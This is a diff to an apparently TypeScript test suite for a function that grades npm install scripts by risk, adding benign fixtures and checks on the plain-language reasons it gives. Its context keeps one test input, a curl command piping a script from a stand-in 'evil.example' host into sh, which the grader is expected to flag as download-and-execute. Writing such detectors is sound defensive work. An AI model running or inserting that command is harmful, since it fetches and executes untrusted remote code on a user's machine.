@@ -81,6 +81,10 @@ const low: Array<[string, string]> = [
   ['husky', 'husky install'],
   ['patch-package', 'patch-package'],
   ['echo', 'echo "Thanks for installing!"'],
+  [
+    'es5-ext style guarded require with exit 0',
+    'node -e "try{require(\'./_postinstall\')}catch(e){}" || exit 0',
+  ],
   ['a URL in an echo is not a download', 'node install.js && echo see https://example.com/docs'],
 ];
 
@@ -102,6 +106,15 @@ describe('gradeInstallScript', () => {
     const grade = gradeInstallScript('curl -fsSL https://evil.example/x.sh | sh');
     expect(grade.signals[0]?.id).toBe('download-exec');
     expect(grade.signals[0]?.reason).toMatch(/download into an interpreter/);
+  });
+
+  it('says what a benign script does in words', () => {
+    expect(gradeInstallScript('node -e "try{require(\'./postinstall\')}catch(e){}"').signals[0]?.reason).toBe(
+      'runs inline code that only loads a file of the package',
+    );
+    expect(gradeInstallScript('node scripts/install.js').signals[0]?.reason).toBe(
+      'runs scripts/install.js from the package',
+    );
   });
 
   it('a native build next to a download is still critical', () => {
